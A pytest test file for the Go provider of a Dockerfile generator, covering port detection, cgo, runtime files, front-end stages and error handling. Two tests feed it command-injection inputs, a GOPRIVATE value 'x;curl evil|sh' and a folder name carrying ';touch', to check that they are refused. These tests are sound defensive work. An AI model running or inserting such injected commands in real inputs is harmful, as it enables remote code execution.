"""The Go provider: detection from small trees, each checked against the rule it exercises."""

from __future__ import annotations

import pytest

from conftest import write_tree
from scaffold.cli import main as scaffold_main
from scaffold.plan import plan_project
from scaffold.project import Project
from scaffold.render import render_plan

GO_MOD = "module example.com/shop\n\ngo 1.26\n"
SERVER = 'package main\n\nimport "net/http"\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n'


def _plan(tmp_path, files, **answers):
    write_tree(tmp_path, {"go.mod": GO_MOD, **files})
    return plan_project(Project(tmp_path), answers)


def _dockerfile(plan) -> str:
    return render_plan(plan)[plan.dockerfile_path]


def test_port_from_getenv_fallback(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\tport := os.Getenv("PORT")\n\tif port == "" {\n\t\tport = "4321"\n\t}\n\thttp.ListenAndServe(":"+port, nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 4321
    text = _dockerfile(plan)
    assert "ENV PORT=4321" in text and "EXPOSE 4321" in text
    assert '"/usr/local/bin/healthcheck", "4321", "PORT"' in text


def test_cmp_or_and_helper_defaults(tmp_path):
    code = 'package main\n\nimport (\n\t"cmp"\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\thttp.ListenAndServe(":"+cmp.Or(os.Getenv("HTTP_PORT"), "5005"), nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 5005
    assert "ENV HTTP_PORT=5005" in _dockerfile(plan)


def test_an_int_helper_default_is_the_port_and_a_backend_address_is_not(tmp_path):
    """vickon16/go-gin-rest-api: GetEnvInt("PORT", 8080) serves; GetEnvString("REDIS_ADDRESS", "localhost:6379") is redis."""
    main = (
        'package main\n\nimport (\n\t"fmt"\n\t"net/http"\n)\n\nfunc main() {\n\tport := env.GetEnvInt("PORT", 8080)\n'
        '\tsrv := &http.Server{Addr: fmt.Sprintf(":%d", port)}\n\tsrv.ListenAndServe()\n}\n'
    )
    redis = 'package cache\n\nfunc Open() {\n\taddress := env.GetEnvString("REDIS_ADDRESS", "localhost:6379")\n\t_ = redis.NewClient(&redis.Options{Addr: address})\n}\n'
    plan = _plan(tmp_path, {"main.go": main, "cache/redis.go": redis})
    assert plan.port == 8080 and "PORT default" in plan.decisions["port"].source
    assert "EXPOSE 8080" in _dockerfile(plan) and "6379" not in _dockerfile(plan)


def test_getenv_without_default_sets_the_variable(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\thttp.ListenAndServe(":"+os.Getenv("PORT"), nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 8080
    assert "no default" in plan.decisions["port"].source
    assert "ENV PORT=8080" in _dockerfile(plan)


def test_loopback_flag_default_is_overridden_in_the_entrypoint(tmp_path):
    code = 'package main\n\nimport (\n\t"flag"\n\t"net/http"\n)\n\nvar addr = flag.String("addr", "localhost:7070", "listen address")\n\nfunc main() {\n\tflag.Parse()\n\thttp.ListenAndServe(*addr, nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 7070
    assert 'ENTRYPOINT ["/usr/local/bin/shop", "-addr=:7070"]' in _dockerfile(plan)


def test_loopback_literal_is_a_warning_naming_the_line(tmp_path):
    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\thttp.ListenAndServe("127.0.0.1:9000", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 9000
    assert any("main.go:6" in w and "loopback" in w for w in plan.warnings)
    assert 'ENTRYPOINT ["/usr/local/bin/loopback-bridge", "9000", "--", "/usr/local/bin/shop"]' in _dockerfile(plan)


def test_a_loopback_address_kept_in_a_variable_named_for_listening_is_a_listen(tmp_path):
    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\taddr := "localhost:9100"\n\thttp.ListenAndServe(addr, nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 9100 and any("main.go:6" in w and "loopback" in w for w in plan.warnings)


GIN_MOD = GO_MOD + "\nrequire github.com/gin-gonic/gin v1.10.0\n"


def test_a_documented_host_is_not_a_loopback_listener_and_gin_run_is_found_across_packages(tmp_path):
    """thanhlt-1007/gin-rest-api: the engine is built in one package and run from main.go;
    SwaggerInfo.Host = "localhost:8080" is what the API docs show, not where the server listens."""
    write_tree(tmp_path, {
        "go.mod": GIN_MOD,
        "engine/engine.go": 'package engine\n\nimport "github.com/gin-gonic/gin"\n\nvar ENGINE = gin.Default()\n',
        "docs/init.go": 'package docs\n\nfunc Init() {\n\tSwaggerInfo.Host = "localhost:8080"\n}\n',
        "main.go": 'package main\n\nimport "example.com/shop/engine"\n\nfunc main() {\n\tengine.ENGINE.Run()\n}\n',
    })
    plan = plan_project(Project(tmp_path), {})
    assert plan.port == 8080
    assert "main.go:6: gin's Run() with no address" in plan.decisions["port"].source
    assert not any("loopback" in w for w in plan.warnings)
    assert "loopback-bridge" not in _dockerfile(plan)


def test_client_address_of_a_service_is_not_the_listen_port(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"github.com/redis/go-redis/v9"\n)\n\nfunc main() {\n\t_ = redis.NewClient(&redis.Options{Addr: "localhost:6379"})\n\thttp.ListenAndServe(":8088", nil)\n}\n'
    assert _plan(tmp_path, {"main.go": code}).port == 8088


def test_worker_without_http_gets_no_expose_or_healthcheck(tmp_path):
    code = 'package main\n\nimport "time"\n\nfunc main() {\n\tfor {\n\t\ttime.Sleep(time.Second)\n\t}\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    text = _dockerfile(plan)
    assert plan.value("worker") is True
    assert "EXPOSE" not in text and "HEALTHCHECK" not in text and "AS healthcheck" not in text


def test_several_mains_pick_the_listener_and_name_the_others(tmp_path):
    worker = 'package main\n\nfunc main() {}\n'
    plan = _plan(tmp_path, {"cmd/api/main.go": SERVER, "cmd/worker/main.go": worker, "examples/demo/main.go": SERVER})
    assert plan.value("target") == "./cmd/api"
    assert any("cmd/worker" in n and "--target" in n for n in plan.notes)
    assert "-o /out/api ./cmd/api" in _dockerfile(plan)


def test_target_flag_and_unknown_target(tmp_path):
    worker = 'package main\n\nfunc main() {}\n'
    plan = _plan(tmp_path, {"cmd/api/main.go": SERVER, "cmd/worker/main.go": worker}, target="worker")
    assert plan.value("target") == "./cmd/worker"
    from scaffold.errors import UsageError

    with pytest.raises(UsageError, match="no such main package"):
        plan_project(Project(tmp_path), {"target": "nope"})


def test_build_ignored_main_is_not_a_target(tmp_path):
    generator = '//go:build ignore\n\npackage main\n\nfunc main() {}\n'
    plan = _plan(tmp_path, {"main.go": SERVER, "gen/gen.go": generator})
    assert plan.value("target") == "."
    assert plan.notes == [] or not any("gen" in n for n in plan.notes)


def test_module_of_libraries_is_named_in_the_error(tmp_path, capsys):
    write_tree(tmp_path, {"go.mod": GO_MOD, "lib.go": "package shop\n\nfunc A() {}\n"})
    assert scaffold_main(["plan", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "go.mod" in err and "Go (go.mod with a main package)" in err and "Traceback" not in err


def test_version_sources(tmp_path):
    mod = "module example.com/shop\n\ngo 1.24.0\n\ntoolchain go1.25.3\n"
    write_tree(tmp_path, {"go.mod": mod, "main.go": SERVER})
    assert plan_project(Project(tmp_path), {}).value("go_version") == "1.25"
    assert plan_project(Project(tmp_path), {"go_version": "1.26"}).value("go_version") == "1.26"


def test_pre_121_go_directive_gets_the_current_line(tmp_path):
    write_tree(tmp_path, {"go.mod": "module example.com/old\n\ngo 1.16\n", "main.go": SERVER})
    decision = plan_project(Project(tmp_path), {}).decisions["go_version"]
    from scaffold.data import load

    assert decision.value == load("go")["go"]["default_line"]
    assert "before Go 1.21" in decision.source


def test_cgo_import_c_uses_a_glibc_runtime(tmp_path):
    code = 'package main\n\n// int two() { return 2; }\nimport "C"\n\nimport "net/http"\n\nfunc main() {\n\t_ = C.two()\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    text = _dockerfile(plan)
    assert "CGO_ENABLED=1" in text and "distroless/base-debian12" in text
    assert "--platform=$BUILDPLATFORM golang" in text  # the probe stage still cross-compiles
    assert "FROM golang:${GO_VERSION}-bookworm AS build" in text  # the cgo build does not


def test_cgo_module_with_shared_libraries_gets_debian_and_packages(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t_ "github.com/h2non/bimg"\n)\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n'
    text = _dockerfile(_plan(tmp_path, {"main.go": code}))
    assert "libvips-dev" in text and "libvips42" in text and "FROM debian:bookworm-slim AS runtime" in text


def test_runtime_files_copied_unless_embedded(tmp_path):
    code = (
        'package main\n\nimport (\n\t"embed"\n\t"html/template"\n\t"net/http"\n)\n\n//go:embed assets\nvar assets embed.FS\n\n'
        'func main() {\n\t_ = template.Must(template.ParseGlob("templates/*.html"))\n\thttp.Handle("/a/", http.FileServer(http.FS(assets)))\n'
        '\thttp.Handle("/s/", http.FileServer(http.Dir("./public")))\n\t_, _ = os.ReadFile("certs/server.key")\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    )
    plan = _plan(tmp_path, {"main.go": code, "templates/a.html": "x", "assets/x.js": "x", "public/i.css": "x", "certs/server.key": "k"})
    assert plan.value("runtime_files") == ["public", "templates"]
    text = _dockerfile(plan)
    assert "COPY public ./public" in text and "COPY templates ./templates" in text and "assets" not in text.split("AS runtime")[1]


def test_viper_config_file_is_copied(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"github.com/spf13/viper"\n)\n\nfunc main() {\n\tviper.SetConfigName("config")\n\tviper.AddConfigPath(".")\n\t_ = viper.ReadInConfig()\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code, "config.yaml": "a: 1\n"})
    assert plan.value("runtime_files") == ["config.yaml"]


def test_missing_runtime_file_is_a_warning(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\t_, _ = os.ReadFile("data/seed.json")\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert any("data/seed.json" in w and "main.go:9" in w for w in plan.warnings)


def test_vendor_builds_offline(tmp_path):
    plan = _plan(tmp_path, {"main.go": SERVER, "vendor/modules.txt": "# none\n"})
    text = _dockerfile(plan)
    assert "-mod=vendor" in text and "go mod download" not in text


def test_replace_outside_the_project_is_refused(tmp_path, capsys):
    write_tree(tmp_path, {"go.mod": GO_MOD + "\nreplace example.com/x => ../x\n", "main.go": SERVER})
    assert scaffold_main(["plan", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "go.mod" in err and "outside the project" in err and len(err.strip().splitlines()) <= 2


def test_malformed_go_directive_is_one_line(tmp_path, capsys):
    write_tree(tmp_path, {"go.mod": "module example.com/x\n\ngo banana\n", "main.go": SERVER})
    assert scaffold_main(["plan", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "go.mod: cannot parse: line 3" in err and len(err.strip().splitlines()) == 1


def test_workspace_builds_from_the_module_cache(tmp_path):
    write_tree(tmp_path, {
        "go.work": "go 1.26\n\nuse (\n\t./svc\n\t./lib\n)\n",
        "svc/go.mod": "module example.com/svc\n\ngo 1.26\n",
        "svc/main.go": SERVER,
        "lib/go.mod": "module example.com/lib\n\ngo 1.26\n",
        "lib/lib.go": "package lib\n",
    })
    text = _dockerfile(plan_project(Project(tmp_path), {}))
    # `go mod download` loads the full graph, which fails on requirements only go.work provides
    assert "RUN --mount=type=cache,id=go-mod,target=/go/pkg/mod \\\n    go mod download" not in text
    assert "id=go-mod,target=/go/pkg/mod" in text
    assert "-o /out/svc ./svc" in text


def test_local_replace_target_manifest_is_copied_before_download(tmp_path):
    write_tree(tmp_path, {
        "go.mod": GO_MOD + "\nrequire example.com/lib v0.0.0\n\nreplace example.com/lib => ./libs/lib\n",
        "main.go": SERVER,
        "libs/lib/go.mod": "module example.com/lib\n\ngo 1.26\n",
    })
    text = _dockerfile(plan_project(Project(tmp_path), {}))
    assert text.index("COPY libs/lib/go.mod ./libs/lib/") < text.index("go mod download")


def test_unsafe_folder_names_never_reach_a_run_line(tmp_path):
    plan = _plan(tmp_path, {"main.go": SERVER, "cmd/a;touch x/main.go": SERVER})
    assert "touch" not in _dockerfile(plan)


def test_go_beats_a_frontend_package_json(tmp_path):
    plan = _plan(tmp_path, {"main.go": SERVER, "package.json": '{"name": "web", "scripts": {"build": "vite build"}}'})
    assert plan.ecosystem == "go"
    assert plan.value("provider") == "go"


def test_cgo_module_required_through_a_library(tmp_path):
    mod = GO_MOD + "\nrequire (\n\tgithub.com/jinzhu/gorm v1.9.16\n\tgithub.com/mattn/go-sqlite3 v1.14.0 // indirect\n)\n"
    write_tree(tmp_path, {"go.mod": mod, "main.go": SERVER})
    plan = plan_project(Project(tmp_path), {})
    assert plan.value("cgo") is True and "go.mod requires github.com/mattn/go-sqlite3" in plan.decisions["cgo"].source


def test_project_own_config_reader_file_is_copied(tmp_path):
    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\t_ = config.ReadConfig("config.json")\n\t_ = render("index.tmpl")\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code, "config.json": "{}", "api/api.go": "package api\n"})
    assert plan.value("runtime_files") == ["config.json"]
    assert not plan.warnings  # index.tmpl is not a path scaffold can judge: no warning


def test_relative_sqlite_database_gets_a_writable_folder(tmp_path):
    code = 'package main\n\nimport (\n\t"database/sql"\n\t"net/http"\n\t_ "github.com/mattn/go-sqlite3"\n)\n\nfunc main() {\n\t_, _ = sql.Open("sqlite3", "./data/app.db")\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    text = _dockerfile(_plan(tmp_path, {"main.go": code}))
    assert "mkdir -p /out/rootfs/app/data" in text
    runtime = text.split("AS runtime", 1)[1]
    assert runtime.index("COPY --from=build --chown=65532:65532 /out/rootfs/ /") < runtime.index("WORKDIR /app")


@pytest.mark.parametrize(("call", "folder"), [
    # Pteus/gin-rest-api: jinzhu/gorm v1 creates ./games.db and logrus a gin.log in the working directory
    ('gorm.Open("sqlite3", "./games.db")', "/out/rootfs/app"),
    ('os.OpenFile("logs/gin.log", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0666)', "/out/rootfs/app/logs"),
    ('os.Create("out/report.csv")', "/out/rootfs/app/out"),
])
def test_files_the_program_creates_get_a_writable_folder(tmp_path, call, folder):
    code = f'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {{\n\t_, _ = {call}\n\thttp.ListenAndServe(":8080", nil)\n}}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert f"RUN mkdir -p {folder}" in [line.removesuffix(" \\") for line in _dockerfile(plan).splitlines()]
    assert not any("not in the repository" in w for w in plan.warnings)


def test_a_file_opened_read_only_is_not_made_writable(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\t_, _ = os.OpenFile("seed.json", os.O_RDONLY, 0)\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    assert "/out/rootfs/app" not in _dockerfile(_plan(tmp_path, {"main.go": code}))


def test_gopath_project_without_go_mod(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"github.com/acme/tasks/views"\n)\n\nfunc main() {\n\tviews.Init()\n\thttp.ListenAndServe(":8081", nil)\n}\n'
    write_tree(tmp_path, {"main.go": code, "views/views.go": "package views\n\nfunc Init() {}\n"})
    plan = plan_project(Project(tmp_path), {})
    text = _dockerfile(plan)
    assert "go mod init github.com/acme/tasks" in text and "go mod tidy" in text
    assert any("no go.mod" in w for w in plan.warnings)


def test_path_kept_in_a_variable_is_copied(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\ttemplatesDir := "./templates/"\n\t_, _ = os.ReadDir(templatesDir)\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code, "templates/a.html": "x"})
    assert plan.value("runtime_files") == ["templates"]


def test_private_modules_from_ci_use_a_netrc_secret(tmp_path):
    workflow = "jobs:\n  build:\n    env:\n      GOPRIVATE: github.com/acme/*\n"
    plan = _plan(tmp_path, {"main.go": SERVER, ".github/workflows/ci.yml": workflow})
    text = _dockerfile(plan)
    assert "ENV GOPRIVATE=github.com/acme/*" in text
    assert "--mount=type=secret,id=netrc,target=/root/.netrc" in text
    assert "--secret id=netrc,src=$HOME/.netrc" in plan.next_steps()[0]
    assert ".netrc" in "\n".join(plan.dockerignore)


def test_go_private_flag_refuses_shell_text(tmp_path, capsys):
    write_tree(tmp_path, {"go.mod": GO_MOD, "main.go": SERVER})
    with pytest.raises(SystemExit) as exc:
        scaffold_main(["plan", str(tmp_path), "--go-private", "x;curl evil|sh"])
    assert exc.value.code == 2
    assert "not a GOPRIVATE list" in capsys.readouterr().err


def test_port_kept_in_a_variable(tmp_path):
    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\tport := "8765"\n\thttp.ListenAndServe(":"+port, nil)\n}\n'
    assert _plan(tmp_path, {"main.go": code}).port == 8765


def test_port_from_env_example_when_the_code_reads_it_indirectly(tmp_path):
    code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc cfg(k string) string { return os.Getenv(k) }\n\nfunc main() {\n\thttp.ListenAndServe(cfg("PORT"), nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code, ".env": 'PORT=":8090"\nSECRET=hunter2\n'})
    text = _dockerfile(plan)
    assert plan.port == 8090 and "ENV PORT=:8090" in text
    assert "hunter2" not in text and "**/.[eE][nN][vV]" in plan.dockerignore


def test_another_services_port_is_neither_the_listen_env_nor_the_env_file_port(tmp_path):
    """rulyadhika/simple-gin-go-rest-api: .env.example has an empty APP_PORT and EMAIL_SMTP_PORT=123, the code
    reads DB_PORT before APP_PORT: the image published 123 and set DB_PORT."""
    code = ('package main\n\nimport (\n\t"fmt"\n\t"os"\n\n\t"github.com/gin-gonic/gin"\n)\n\n'
            'func main() {\n\tdb := os.Getenv("DB_PORT")\n\t_ = db\n\tport := os.Getenv("APP_PORT")\n\tgin.Default().Run(fmt.Sprintf(":%v", port))\n}\n')
    plan = _plan(tmp_path, {"main.go": code, ".env.example": "APP_PORT=\nDB_PORT=5432\nEMAIL_SMTP_PORT=123\n"})
    assert plan.port == 8080 and plan.decisions["port"].source.endswith('os.Getenv("APP_PORT") with no default; scaffold sets APP_PORT=8080')


def test_side_server_in_a_goroutine_is_not_the_port(tmp_path):
    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\tgo func() {\n\t\thttp.ListenAndServe(":9090", nil)\n\t}()\n\thttp.ListenAndServe(":8000", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code})
    assert plan.port == 8000 and any("9090" in n for n in plan.notes)


def test_embedded_folder_survives_a_gitignore_line(tmp_path):
    code = 'package main\n\nimport (\n\t"embed"\n\t"net/http"\n)\n\n//go:embed public\nvar public embed.FS\n\nfunc main() {\n\thttp.Handle("/", http.FileServer(http.FS(public)))\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    plan = _plan(tmp_path, {"main.go": code, "public/index.html": "x", ".gitignore": "public/\n"})
    assert "**/public" not in plan.dockerignore
    assert any("public" in n and "left out" in n for n in plan.notes)


def test_embedded_front_end_is_built_in_a_node_stage(tmp_path):
    code = 'package main\n\nimport (\n\t"embed"\n\t"net/http"\n)\n\n//go:embed web/dist\nvar dist embed.FS\n\nfunc main() {\n\thttp.Handle("/", http.FileServer(http.FS(dist)))\n\thttp.ListenAndServe(":8080", nil)\n}\n'
    lock = '{"name": "web", "lockfileVersion": 3, "packages": {"": {"name": "web"}}}'
    plan = _plan(tmp_path, {"main.go": code, "web/package.json": '{"name": "web", "scripts": {"build": "vite build"}}', "web/package-lock.json": lock})
    text = _dockerfile(plan)
    assert "AS frontend" in text and "npm ci" in text and "RUN npm run build" in text
    build = text.split("AS build", 1)[1]
    assert build.index("COPY . .") < build.index("COPY --from=frontend /web/dist ./web/dist") < build.index("go build")


SERVED_CLIENT = 'package main\n\nimport "net/http"\n\nfunc main() {\n\tconst BUILD_DIR = "./client/build/"\n\thttp.Handle("/", http.FileServer(http.Dir(BUILD_DIR)))\n\thttp.ListenAndServe(":8080", nil)\n}\n'
CRA_LOCK = '{"name": "client", "lockfileVersion": 3, "packages": {"": {"name": "client"}, "node_modules/react-scripts": {"version": "5.0.1"}}}'


def test_a_folder_served_from_disk_that_a_front_end_build_makes_is_built_and_copied(tmp_path):
    """mes32/go-todo serves ./client/build/, which client/package.json's `react-scripts build` makes and git
    ignores: the image had no front end (checked with docker: the built files are in /app/client/build)."""
    client = '{"name": "client", "scripts": {"build": "react-scripts build"}, "dependencies": {"react-scripts": "5.0.1"}}'
    plan = _plan(tmp_path, {"main.go": SERVED_CLIENT, "client/package.json": client, "client/package-lock.json": CRA_LOCK})
    assert plan.decisions["frontend"].value == "client/build"
    text = _dockerfile(plan)
    assert "AS frontend" in text and "COPY client/package.json client/package-lock.json ./" in text and "RUN npm run build" in text
    runtime = text[text.index("AS runtime"):]
    assert "COPY --from=frontend /web/build /app/client/build" in runtime
    assert not any("client/build" in w and "not in the repository" in w for w in plan.warnings)


@pytest.mark.parametrize("client", [
    '{"name": "client", "scripts": {"build": "tsc"}}',  # no framework that writes build/
    '{"name": "client", "scripts": {"start": "react-scripts start"}, "dependencies": {"react-scripts": "5.0.1"}}',  # no build script
])
def test_a_missing_served_folder_no_build_makes_brings_no_node_stage(tmp_path, client):
    plan = _plan(tmp_path, {"main.go": SERVED_CLIENT, "client/package.json": client})
    assert "frontend" not in plan.decisions and "AS frontend" not in _dockerfile(plan)


@pytest.mark.parametrize(("setting", "port", "env"), [('httpport = "${PORT||8000}"', 8000, "PORT"), ("httpport = 9090", 9090, None)])
def test_beego_reads_its_conf_and_views_and_takes_the_port_from_app_conf(tmp_path, setting, port, env):
    """beego finds conf/app.conf, views/ and static/ by convention: no path in the code names them (koyeb/example-beego)."""
    mod = "module example.com/site\n\ngo 1.22\n\nrequire github.com/beego/beego/v2 v2.1.0\n"
    main = 'package main\n\nimport beego "github.com/beego/beego/v2/server/web"\n\nfunc main() {\n\tbeego.Run()\n}\n'
    write_tree(tmp_path, {"go.mod": mod, "main.go": main, "conf/app.conf": f"appname = site\n{setting}\n", "views/index.tpl": "<p>hi</p>\n", "static/app.css": "p{}\n"})
    plan = plan_project(Project(tmp_path), {})
    text = _dockerfile(plan)
    assert plan.port == port and plan.decisions["port"].source.startswith("conf/app.conf:2")
    assert all(f"COPY {d} ./{d}" in text for d in ("conf", "views", "static"))
    assert (f"ENV PORT={port}" in text) == (env == "PORT")


def test_a_program_that_exits_without_dot_env_gets_an_empty_one(tmp_path):
    """johngtrs/go-rest-api, rulyadhika/simple-gin-go-rest-api: godotenv's README example (`godotenv.Load()`, then
    log.Fatal on the error) exits at once in a container, since .env never enters the image."""
    code = ('package main\n\nimport (\n\t"log"\n\t"net/http"\n\n\t"github.com/joho/godotenv"\n)\n\n'
            'func main() {\n\terr := godotenv.Load()\n\tif err != nil {\n\t\tlog.Fatal("Error loading .env file")\n\t}\n\thttp.ListenAndServe(":8080", nil)\n}\n')
    plan = _plan(tmp_path, {"main.go": code, ".env": "SECRET=hunter2\n"})
    text = _dockerfile(plan)
    assert "COPY <<'EOF' /app/.env\nEOF" in text and "main.go:11 stops when .env is missing" in text and "hunter2" not in text
    lenient = code.replace('\terr := godotenv.Load()\n\tif err != nil {\n\t\tlog.Fatal("Error loading .env file")\n\t}\n', "\t_ = godotenv.Load()\n")
    assert "/app/.env" not in _dockerfile(_plan(tmp_path, {"main.go": lenient}))


@pytest.mark.parametrize(("framework", "declaration", "expected"), [
    ("github.com/urfave/cli/v3", 'Name: "migrate",\n\t\tName: "serve",', "serve"),  # clevertechware/todo-bun-app
    ("github.com/spf13/cobra", 'Use:   "server [flags]",', "server"),
])
def test_a_cli_program_runs_its_server_subcommand(tmp_path, framework, declaration, expected):
    main = f'package main\n\nimport (\n\t"net/http"\n\t"{framework}"\n)\n\nvar c = struct{{ Name, Use string }}{{\n\t\t{declaration}\n}}\n\nfunc main() {{ http.ListenAndServe(":8080", nil) }}\n'
    plan = _plan(tmp_path, {"go.mod": GO_MOD, "main.go": main})
    assert plan.value("subcommand") == expected
    assert f'ENTRYPOINT ["/usr/local/bin/shop", "{expected}"]' in _dockerfile(plan)


def test_a_program_without_a_cli_framework_gets_no_subcommand(tmp_path):
    main = 'package main\n\nimport "net/http"\n\nvar cfg = struct{ Name string }{ Name: "serve" }\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n'
    assert "subcommand" not in _plan(tmp_path, {"go.mod": GO_MOD, "main.go": main}).decisions
